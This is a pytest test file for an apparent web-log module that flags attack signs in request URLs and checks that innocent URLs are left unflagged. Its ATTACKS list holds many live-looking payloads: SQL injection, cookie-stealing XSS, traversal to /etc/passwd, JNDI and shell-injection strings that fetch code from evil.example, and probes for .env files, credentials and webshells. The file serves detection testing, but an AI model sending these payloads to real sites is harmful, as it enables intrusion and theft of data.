"""Attack signs: what must match, however it is encoded, and the innocent URLs that must not."""

import polars as pl
import pytest

from enrich.signs import (
    ASSET_PATH,
    CRAWLER_AGENT,
    EXPLOITS,
    LOGIN_PATH,
    PROBES,
    SIGNS,
    TOOL_AGENT,
    decode,
    match_signs,
)

NAMES = [sign.name for sign in SIGNS]

ATTACKS = [
    ("sqli", "/item?id=1 UNION SELECT user,pass FROM users"),
    ("sqli", "/item?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--"),
    ("sqli", "/item?id=1+union+select+1,2,3"),
    ("sqli", "/item?id=1/**/union/**/select/**/1"),
    ("sqli", "/item?id=1%2520union%2520select%25201"),
    ("sqli", "/item?id=1'%20OR%20'1'='1"),
    ("sqli", "/item?id=1%27%20or%201%3D1--%20-"),
    ("sqli", "/item?id=1)%20AND%201=1"),
    ("sqli", "/item?id=1%20AND%20SLEEP(5)"),
    ("sqli", "/item?id=1;WAITFOR%20DELAY%20'0:0:5'--"),
    ("sqli", "/item?id=1%20AND%20EXTRACTVALUE(1,CONCAT(0x7e,version()))"),
    ("sqli", "/item?id=1%3BDROP%20TABLE%20users"),
    ("sqli", "/item?id=(select%20table_name%20from%20information_schema.tables)"),
    ("sqli", "/item?id=1%20order%20by%2010--"),
    ("sqli", "/item?name=admin'--"),
    ("sqli", "/item?id=1%20and%2012=12"),
    ("sqli", "/item?id=-1%20union%20(select%201,2)"),
    ("sqli", "/item?id=1%20union%20select%20version()"),
    ("sqli", "/item?id=1%20and%20(select%20count(*)%20from%20users)%3E0"),
    ("sqli", "/item?id=1%3Bselect%20*%20from%20users"),
    ("sqli", "/item?id=1;select%20pass%20from%20users%20where%20id=1"),
    ("sqli", "/item?id=1;exec%20xp_cmdshell('dir')"),
    ("xss", "/?q=<script>alert(1)</script>"),
    ("xss", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("xss", "/?q=%253Cscript%253E"),
    ("xss", "/?q=%3CScRiPt%20src=//evil.example%3E"),
    ("xss", "/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E"),
    ("xss", "/?q=%3Csvg/onload=alert(1)%3E"),
    ("xss", "/?next=javascript:alert(document.cookie)"),
    ("xss", "/?q=%22%20onmouseover%3D%22alert(1)"),
    ("traversal", "/../../../../etc/passwd"),
    ("traversal", "/?file=..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal", "/?file=..%252f..%252fetc%252fpasswd"),
    ("traversal", "/?file=%2e%2e/%2e%2e/%2e%2e/windows/win.ini"),
    ("traversal", "/?file=..\\..\\boot.ini"),
    ("traversal", "/?file=/etc/passwd"),
    ("traversal", "/?file=/proc/self/environ"),
    ("traversal", "/?file=C:\\Windows\\system.ini"),
    ("traversal", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc"),
    ("traversal", "/..%c0%af..%c0%afetc"),
    ("traversal", "/app/..;/manager"),
    ("rce", "/?x=${jndi:ldap://evil.example/a}"),
    ("rce", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%7D"),
    ("rce", "/?host=127.0.0.1;cat%20/etc/hostname"),
    ("rce", "/?host=a%7C%7Cid"),
    ("rce", "/?host=a%3Bid"),
    ("rce", "/?host=a%26curl%20http://evil.example"),
    ("rce", "/?host=a%7Cuname%20-a"),
    ("rce", "/?n={{config.items()}}"),
    ("rce", "/?n={{''.__class__}}"),
    ("rce", "/?host=a%26%26whoami"),
    ("rce", "/?host=`wget%20http://evil.example/x.sh`"),
    ("rce", "/?host=$(curl%20evil.example)"),
    ("rce", "/index.php?page=php://filter/convert.base64-encode/resource=index"),
    ("rce", "/index.php?cmd=ls"),
    ("rce", "/cgi-bin/test?-d+allow_url_include%3d1"),
    ("rce", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
    ("rce", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"),
    ("rce", "/?name={{7*7}}"),
    ("rce", "/?x=<?php%20system('id')"),
    ("rce", "/cgi-bin/.%2e/.%2e/bin/sh"),
    ("sensitive", "/.env"),
    ("sensitive", "/.git/config"),
    ("sensitive", "/app/.aws/credentials"),
    ("sensitive", "/wp-config.php.bak"),
    ("sensitive", "/backup.zip"),
    ("sensitive", "/db.sql"),
    ("sensitive", "/db.sql.gz"),
    ("sensitive", "/dump.tar.gz"),
    ("sensitive", "/.htpasswd"),
    ("sensitive", "/id_rsa"),
    ("sensitive", "/phpinfo.php"),
    ("sensitive", "/info.php"),
    ("sensitive", "/server-status"),
    ("sensitive", "/actuator/env"),
    ("sensitive", "/config.yml"),
    ("sensitive", "/www.zip"),
    ("sensitive", "/backup-2026-05-01.tar.gz"),
    ("sensitive", "/ssl/private.key"),
    ("sensitive", "/index.php.bak?x=1"),
    ("admin", "/phpmyadmin/index.php"),
    ("admin", "/pma/"),
    ("admin", "/adminer.php"),
    ("admin", "/manager/html"),
    ("admin", "/administrator/"),
    ("admin", "/admin.php"),
    ("admin", "/admin"),
    ("admin", "/solr/admin/info/system"),
    ("admin", "/jenkins/login"),
    ("admin", "/boaform/admin/formLogin"),
    ("admin", "/owa/auth/logon.aspx"),
    ("admin", "/HNAP1/"),
    ("admin", "/cgi-bin/luci/;stok=/locale"),
    ("admin", "/console/login/LoginForm.jsp"),
    ("admin", "/autodiscover/autodiscover.json?@evil.example"),
    ("webshell", "/c99.php"),
    ("webshell", "/uploads/shell.php?x=1"),
    ("webshell", "/wso2.php"),
    ("webshell", "/alfa.php"),
    ("webshell", "/images/cmd.jsp"),
]

INNOCENT = [
    "/",
    "/index.html",
    "/search?q=select+a+hotel+from+the+list",
    "/search?q=please+select+one+of+these+from+our+menu",
    "/search?q=western+union+select+branches",
    "/search?q=rock+and+roll",
    "/search?q=fish+and+chips+or+pizza",
    "/search?q=men%27s+or+women%27s+shoes",
    "/search?q=%22rock%22+and+%22roll%22",
    "/search?q=o%27reilly+and+sons",
    "/search?q=order+by+phone",
    "/search?q=where+to+drop+and+insert+coins",
    "/search?q=sleep+(album)",
    "/search?q=benchmark+results",
    "/search?q=tom+%26+jerry",
    "/search?q=cat+and+dog",
    "/search?a=1&id=7",
    "/search?a=1&ID=7",
    "/product?name=x&id=42&cat=shoes",
    "/list?page=2;id=9",
    "/list?sort=a;cat=b",
    "/list?user=1&sh=2&nc=3",
    "/list?tag=a|b|c",
    "/list?ping=1&uname=bob",
    "/list?a=1&curl=2",
    "/tools/curl/manual",
    "/blog/what-is-sql-injection",
    "/blog/union-select-explained",
    "/blog/how-to-use-javascript",
    "/blog/onload-events",
    "/blog/alerting-rules",
    "/docs/script-tag",
    "/docs/information-schema",
    "/docs/command=line",
    "/news?command_id=7",
    "/news?subcommand=list",
    "/player?autoexec=1&recommand=no",
    "/a/../b",
    "/files/report.v1..2.pdf",
    "/static/js/app.3f2a.js.map",
    "/static/css/admin.css",
    "/static/keyboard.key.png",
    "/images/up.png",
    "/images/shell.jpg",
    "/images/etc/passwords.png",
    "/upload",
    "/uploads/2026/photo.jpg",
    "/sitemap.xml.gz",
    "/downloads/linux.tar.xz",
    "/downloads/database-design.pdf",
    "/backup-policy",
    "/backups-explained.html",
    "/environment",
    "/.well-known/security.txt",
    "/.well-known/acme-challenge/abc",
    "/configuration",
    "/credentialing",
    "/gitlab/",
    "/administration-of-estates",
    "/admins-guide",
    "/administrators",
    "/vendors/phone",
    "/console-games",
    "/console-table",
    "/consoles/",
    "/wp-admin/admin-ajax.php",
    "/wp-content/uploads/2026/05/a.jpg",
    "/wp-json/wp/v2/posts",
    "/solrac",
    "/nowadays/",
    "/telescopes/",
    "/dune-druids",
    "/alfa-romeo",
    "/mini",
    "/moon.html",
    "/radio.html",
    "/cart?coupon=10%25off",
    "/search?q=100%25+cotton",
    "/search?q=%C3%A9t%C3%A9",
    "/search?q=a%2Bb",
    "/search?price=%3C100",
    "/search?q=%3Cb%3E",
    "/search?q=i+%3C3+you",
    "/redirect?to=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc%26d%3De",
    "/utm?utm_source=news&utm_medium=email&utm_campaign=may",
    "/map?bbox=1.2,3.4,5.6,7.8&layers=%7B%22a%22%3A1%7D",
    "/api?filter=%7B%22a%22%3A%7B%22b%22%3A1%7D%7D",
    "/api?filter=%7B%22where%22%3A%7B%7D%7D",
    "/graphql?query=%7Bme%7Bname%7D%7D",
    "/graphql?query=%7B%0A%20me%7B%0A%20name%20%7D%7D",
    "/login?next=/account",
    "/session/new",
    "/a?text=it%27s;%20really",
    "/a?text=%22quoted%22;more",
    "/a?q=don%27t%20--%20ever",
    "/search?q=%27and%27",
    "/wiki/C:_A_Windows_History",
    "/wiki/Union_(set_theory)",
    "/wiki/Select_(Unix)",
    "/wiki/Id,_ego_and_super-ego",
    "/wiki/Whoami_(disambiguation)",
    "/shop/data-dumps/",
    "/shop/dump-truck.zip",
    "/shop/database.html",
    "/a.old-town.html",
    "/map?key=AIza.key",
    "/fonts/a.woff2?v=4.7.0",
    "/search?q=javascript:+the+good+parts",
    "/search?q=red+alert+(1977)",
    "/search?q=dog+%26+cat",
    "/search?q=dog+%26+cat+food",
    "/list?fields=name|id",
    "/list?tag=dog|cat",
    "/cgi?cmd=_s-xclick&hosted_button_id=7",
    "/spip.php?exec=articles",
    "/?utm_campaign={{campaign.name}}&ad={{ad.id}}",
    "/wiki/%E0%AE%A4%E0%AE%AE%E0%AE%BF%E0%AE%B4%E0%AF%8D",
    "/downloads/linux-6.1.tgz",
    "/talks/keynote.key",
    "/config.json",
    "/productinfo.php?id=7",
    "/userinfo.php",
    "/actuators/linear",
    "/shop/console/ps5",
    "/telescope/",
    "/blog/jenkins-tutorial",
    "/cgi-bin/mailman/listinfo",
    "/autodiscover/autodiscover.xml",
    "/wp-admin/upload.php",
    "/groups/etc/groups",
    "/search?q=%27or+like+new%27",
]


def signs_of(url: str) -> set[str]:
    row = match_signs(pl.Series([url])).row(0, named=True)
    return {name for name, is_matched in row.items() if is_matched}


@pytest.mark.parametrize(("sign", "url"), ATTACKS)
def test_an_attack_shows_its_sign(sign: str, url: str) -> None:
    assert sign in signs_of(url)


@pytest.mark.parametrize("url", INNOCENT)
def test_an_innocent_url_shows_none(url: str) -> None:
    assert signs_of(url) == set()


def test_every_class_is_attacked_above() -> None:
    assert {sign for sign, _ in ATTACKS} == set(NAMES) == {*EXPLOITS, *PROBES}
    assert not set(EXPLOITS) & set(PROBES)


def test_shape_order_and_nulls() -> None:
    matched = match_signs(pl.Series("whatever", ["/.env", None, "/", "/.env"]))
    assert matched.columns == NAMES
    assert matched["sensitive"].to_list() == [True, False, False, True]
    assert match_signs(pl.Series([], dtype=pl.String)).shape == (0, len(NAMES))


@pytest.mark.parametrize(
    ("url", "plain"),
    [
        ("/A%20b+C", "/a b c"),
        ("/%2541", "/a"),
        ("/%25%34%31", "/a"),
        ("/%E4", "/ä"),
        ("/%zz%", "/%zz%"),
        ("/%25", "/%"),
        (None, None),
    ],
)
def test_decoding(url: str | None, plain: str | None) -> None:
    assert decode(pl.Series([url], dtype=pl.String)).to_list() == [plain]


@pytest.mark.parametrize(
    "path",
    ["/login", "/login/", "/log-in", "/user/login", "/wp-login.php", "/xmlrpc.php", "/api/auth", "/oauth/token",
     "/users/sign_in", "/account/logon", "/login.aspx", "/j_security_check"],
)  # fmt: skip
def test_login_paths(path: str) -> None:
    assert pl.Series([path]).str.contains(LOGIN_PATH).item()


@pytest.mark.parametrize(
    "path", ["/", "/blogin", "/login/help", "/logins", "/authors", "/tokens-explained", "/loginfo"]
)
def test_paths_that_are_no_login(path: str) -> None:
    assert not pl.Series([path]).str.contains(LOGIN_PATH).item()


@pytest.mark.parametrize(
    ("agent", "tool", "crawler"),
    [
        ("sqlmap/1.8#stable", True, False),
        ("curl/8.5.0", True, False),
        ("Mozilla/5.00 (Nikto/2.5.0)", True, False),
        ("python-requests/2.32", True, False),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", False, True),
        ("Mozilla/5.0 (compatible; bingbot/2.0)", False, True),
        ("UptimeRobot/2.0", False, True),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
         False, False),
        ("Mozilla/5.0 (Linux; Android 14; Cubot Note 50) AppleWebKit/537.36 Chrome/126.0 Mobile Safari/537.36",
         False, False),
        ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", False, False),
    ],
)  # fmt: skip
def test_user_agents(agent: str, tool: bool, crawler: bool) -> None:
    lower = pl.Series([agent.lower()])
    assert lower.str.contains(TOOL_AGENT).item() == tool
    assert lower.str.contains(CRAWLER_AGENT).item() == crawler


@pytest.mark.parametrize(
    ("path", "is_asset"), [("/a.css", True), ("/a.jpeg", True), ("/a.html", False), ("/css", False)]
)
def test_assets(path: str, is_asset: bool) -> None:
    assert pl.Series([path]).str.contains(ASSET_PATH).item() == is_asset
